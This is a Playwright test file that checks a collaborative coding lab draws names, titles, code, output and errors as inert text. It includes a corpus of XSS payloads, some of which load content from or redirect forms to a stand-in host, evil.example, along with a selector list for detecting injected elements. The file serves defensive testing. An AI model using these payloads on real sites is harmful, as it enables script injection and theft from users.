"""Names, titles, code, output and errors that try to be markup."""

import json

import pytest
from playwright.async_api import expect

from tests.ui.conftest import NewBrowser
from tests.ui.interview import Interview
from tests.ui.panel import Panel
from tests.ui.server import LabServer
from tests.ui.stage import LabPanel, join

BITE = "<img src=x onerror=\"document.title='bitten'\">"


async def test_markup_is_drawn_as_text(
    server: LabServer, lab: LabPanel, another_browser: NewBrowser
) -> None:
    """PA3: in a title, a name, the code, the output and an error, in Lab and as a guest."""
    code = f"console.log(`{BITE}`); throw new Error(`{BITE}`)"
    session_id = server.new_session(title=f"Title {BITE}", code=code)["id"]
    await lab.open(session_id)
    guest = await join(await another_browser(), server.invite(session_id)["url"], f"Eve {BITE}")
    interview = Interview(session_id, server, lab, guest)
    await interview.guest.caret_to("Control+End")
    await guest.run_and_wait("Error")
    for panel in interview.both:
        await panel.shows(code)
        await expect(panel.people).to_contain_text(f"Eve {BITE}")
        entry = panel.runs.first
        await expect(entry.get_by_text(BITE, exact=True)).to_be_visible()
        await expect(entry).to_contain_text(f"Error: {BITE}")
        await unharmed(panel)
    await expect(lab.title).to_have_value(f"Title {BITE}")
    await expect(guest.page.get_by_role("heading", name=f"Title {BITE}")).to_be_visible()
    await expect(lab.caret_of(f"Eve {BITE}")).to_be_visible()
    await lab.show_list()
    await expect(lab.page.get_by_role("region", name="Live")).to_contain_text(f"Title {BITE}")
    await unharmed(lab)


async def unharmed(panel: Panel) -> None:
    assert await panel.page.locator("img[src=x]").count() == 0
    assert "bitten" != await panel.page.title()


CORPUS = [
    "<script>bite()</script>",
    "<img src=x onerror=bite()>",
    "<svg/onload=bite()>",
    '"><iframe srcdoc="<script>parent.bite()</script>">',
    "<a href='javascript:bite()'>x</a>",
    "</textarea></title><script>bite()</script>",
    "<math><mtext><mglyph><style><img src onerror=bite()>",
    "{{constructor.constructor('bite()')()}}",
    "${bite()} #{bite()} <%= bite() %>",
    "[x](javascript:bite()) ![x](x onerror=bite())",
    "&lt;img src=x onerror=bite()&gt;",
    "<style>@import'//evil.example/x'</style>",
    "<base href=//evil.example/><form action=//evil.example>",
    "<b onmouseover=bite() style=position:fixed>",
]
"""Each fits into a name, the shortest of all fields."""
FOREIGN = "[onerror], [onload], [onmouseover], iframe[srcdoc], [href^=javascript], math, base, form"


async def test_no_payload_of_the_corpus_does_anything_in_any_field(
    server: LabServer, lab: LabPanel, another_browser: NewBrowser
) -> None:
    """PA3: name, title, code, stdout, stderr and error, in Lab and as a guest, each as it is."""
    everything = "\n".join(CORPUS)
    session_id = server.new_session(code="", language="javascript")["id"]
    await lab.open(session_id)
    link = server.invite(session_id)["url"]
    guest = await join(await another_browser(new=True), link, "Eve")
    panels = (lab, guest)
    before = []
    for panel in panels:
        panel.page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
        await panel.page.evaluate("() => { window.bite = () => { window.bitten = true; }; }")
        before.append(await panel.page.locator(FOREIGN).count())
    secret = server.invite(session_id)["secret"]
    for payload in CORPUS:
        body = {"userName": payload, "invite": secret}
        server.rest.post(f"sessions/{session_id}/join", json=body).raise_for_status()
        server.rest.patch(f"sessions/{session_id}", json={"title": payload}).raise_for_status()
        await expect(lab.title).to_have_value(payload)
        await expect(guest.page.get_by_role("heading", name=payload, exact=True)).to_be_visible()
    server.put_code(session_id, everything)
    reported = {"output": everything, "error": everything}
    server.rest.post(f"sessions/{session_id}/execute", json=reported).raise_for_status()
    for panel, foreign in zip(panels, before, strict=True):
        await panel.shows(everything)
        await panel.page.get_by_role("button", name=f"{len(CORPUS)} away", exact=True).click()
        for payload in CORPUS:
            await expect(panel.people).to_contain_text(payload)
            await expect(panel.runs.first).to_contain_text(payload)
        assert await panel.page.evaluate("window.bitten") is None
        assert await panel.page.locator(FOREIGN).count() == foreign
    words = f"console.log({json.dumps(everything)}); console.error({json.dumps(everything)});"
    server.put_code(session_id, words)
    await guest.shows(words)
    await guest.run_and_wait("Finished")
    for panel, foreign in zip(panels, before, strict=True):
        for payload in CORPUS:
            await expect(panel.runs.nth(1)).to_contain_text(payload)
        assert await panel.page.evaluate("window.bitten") is None
        assert await panel.page.locator(FOREIGN).count() == foreign
